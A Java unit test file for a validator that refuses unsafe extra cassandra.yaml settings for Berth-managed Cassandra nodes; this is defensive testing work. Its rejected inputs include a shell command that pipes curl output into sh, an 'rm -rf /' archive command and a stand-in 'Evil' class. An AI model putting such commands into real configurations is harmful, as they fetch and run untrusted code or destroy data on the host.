package dev.berth.cassandra;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.berth.core.spec.Violation;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * cassandra.yaml_extra refuses settings that would let a node run a command, touch files on the agent
 * or load code that is not Cassandra's, at any depth, with the key and why; tuning passes.
 */
class YamlSettingsTest {
    static List<Violation> violations(String yaml) {
        return YamlSettings.violations(Map.of(YamlSettings.OPTION, yaml));
    }

    static String message(String yaml) {
        List<Violation> found = violations(yaml);
        assertThat(found).as(yaml).singleElement().extracting(Violation::field).isEqualTo("cassandra.yaml_extra");
        return found.get(0).message();
    }

    @Test
    void anArchiveCommandIsRefusedWithItsKeyItsValueAndWhy() {
        assertThat(message("full_query_logging_options: {archive_command: \"/bin/sh -c 'curl x | sh'\"}")).isEqualTo(
                "sets what would reach beyond the node's sandbox and volume: full_query_logging_options.archive_command"
                        + " '/bin/sh -c 'curl x | sh'' (runs a shell command on the agent)");
        assertThat(message("audit_logging_options:\n  enabled: true\n  archive_command: /usr/bin/archive %path\n"))
                .contains("audit_logging_options.archive_command '/usr/bin/archive %path' (runs a shell command on the agent)");
        assertThat(message("full_query_logging_options: {allow_nodetool_archive_command: true}"))
                .contains("full_query_logging_options.allow_nodetool_archive_command 'true' (runs a shell command");
    }

    @Test
    void filesAndDirectoriesOnTheAgentAreRefusedWhereverTheySit() {
        for (String yaml : List.of("full_query_logging_options: {log_dir: data/data}",
                "audit_logging_options: {audit_logs_dir: /var/lib/other}",
                "transparent_data_encryption_options: {enabled: true, key_provider: [{class_name: JKSKeyProvider, "
                        + "parameters: [{truststore: t.jks}]}]}",
                "heap_dump_path: /var/crash",
                "audit_logging_options: {keystore_password_file: /root/secret}",
                "startup_checks: {check_data_resurrection: {heartbeat_file: /tmp/hb}}",
                "transparent_data_encryption_options: {key_provider: [{class_name: JKSKeyProvider, parameters: [{keystore: /k}]}]}",
                "some_future_directory: /x")) {
            assertThat(message(yaml)).as(yaml).contains("names a file or directory on the agent; the node keeps its files"
                    + " in its sandbox and volume, where Berth lays them out");
        }
        assertThat(message("full_query_logging_options: {log_dir: /tmp/fql, roll_cycle: HOURLY}")).isEqualTo(
                "sets what would reach beyond the node's sandbox and volume: full_query_logging_options.log_dir '/tmp/fql'"
                        + " (names a file or directory on the agent; the node keeps its files in its sandbox and volume,"
                        + " where Berth lays them out)");
        assertThat(message("transparent_data_encryption_options: {key_provider: [{class_name: JKSKeyProvider, "
                + "parameters: [{keystore: /k}]}]}")).contains("transparent_data_encryption_options.key_provider[0]"
                + ".parameters[0].keystore '/k'");
    }

    @Test
    void aClassThatIsNotCassandrasOwnIsRefusedAndCassandrasArePassed() {
        assertThat(message("network_authorizer: com.example.Evil")).isEqualTo(
                "sets what would reach beyond the node's sandbox and volume: network_authorizer 'com.example.Evil'"
                        + " (loads a class that is not Cassandra's own; allowed: a class of Cassandra's by its short name,"
                        + " e.g. LZ4Compressor, or under org.apache.cassandra.)");
        for (String yaml : List.of("network_authorizer: {class_name: com.example.Evil}",
                "commitlog_compression: [{class_name: com.example.Compressor}]",
                "audit_logging_options: {enabled: true, logger: [{class_name: com.example.Logger}]}",
                "internode_authenticator: {class_name: com.example.Authenticator}",
                "row_cache_class_name: com.example.Cache",
                "memtable: {configurations: {default: {class_name: com.example.Memtable}}}",
                "back_pressure_strategy: org.example.Strategy", "crypto_provider: [{class_name: org.apache.cassandra.}]")) {
            assertThat(message(yaml)).as(yaml).contains("loads a class that is not Cassandra's own");
        }
        assertThat(violations("commitlog_compression: [{class_name: LZ4Compressor}]\n"
                + "memtable: {configurations: {default: {class_name: TrieMemtable}}}\n"
                + "network_authorizer: {class_name: org.apache.cassandra.auth.AllowAllNetworkAuthorizer}\n"
                + "audit_logging_options: {enabled: true, logger: [{class_name: BinAuditLogger}]}\n"
                + "hints_compression: [{class_name: org.apache.cassandra.io.compress.ZstdCompressor, "
                + "parameters: [{compression_level: 3}]}]")).isEmpty();
    }

    @Test
    void functionsOutsideTheSandboxJmxAndMergeKeysAreRefused() {
        assertThat(message("allow_extra_insecure_udfs: true")).contains(
                "allow_extra_insecure_udfs 'true' (lets user-defined functions run outside Cassandra's sandbox)");
        assertThat(message("enable_user_defined_functions_threads: false")).contains("outside Cassandra's sandbox");
        for (String encryption : List.of("client_encryption_options", "server_encryption_options")) {
            assertThat(message(encryption + ": {enabled: false}")).isEqualTo("sets what Berth decides: " + encryption
                    + " (use the option cassandra.tls)");
        }
        assertThat(message("jmx_server_options: {enabled: true, jmx_port: 7199}")).isEqualTo(
                "sets what Berth decides: jmx_server_options (Berth sets up JMX, its port and password, for nodetool and"
                        + " its checks)");
        assertThat(message("base: &b {log_dir: /x}\nfull_query_logging_options: {<<: *b}")).contains("base.log_dir '/x'",
                "full_query_logging_options.<< (a YAML merge key; write the settings out)");
        assertThat(message("<<: {listen_address: 10.0.0.1}")).contains("<< (a YAML merge key");
    }

    @Test
    void ownedAndReachingSettingsAreTwoViolationsAndNothingIsRendered() {
        assertThat(violations("listen_address: 10.0.0.1\nfull_query_logging_options: {log_dir: /x}"))
                .extracting(Violation::toString).containsExactly(
                        "cassandra.yaml_extra: sets what Berth decides: listen_address (the node listens on its agent's address)",
                        "cassandra.yaml_extra: sets what would reach beyond the node's sandbox and volume:"
                                + " full_query_logging_options.log_dir '/x' (names a file or directory on the agent; the node"
                                + " keeps its files in its sandbox and volume, where Berth lays them out)");
        assertThatThrownBy(() -> YamlSettings.merged(1024, "full_query_logging_options: {archive_command: rm -rf /}"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("archive_command");
    }

    @Test
    void tuningAtAnyDepthPasses() {
        assertThat(violations("{concurrent_reads: 64, compaction_throughput: 32MiB/s,"
                + " full_query_logging_options: {roll_cycle: HOURLY, block: true, max_log_size: 1GiB},"
                + " audit_logging_options: {enabled: true, included_keyspaces: shop}, sai_options: {segment_write_buffer_size: 256MiB},"
                + " user_defined_functions_enabled: true, hinted_handoff_disabled_datacenters: [dc2]}")).isEmpty();
        assertThat(YamlSettings.merged(1024, "concurrent_reads: 64")).contains("concurrent_reads: 64");
    }
}
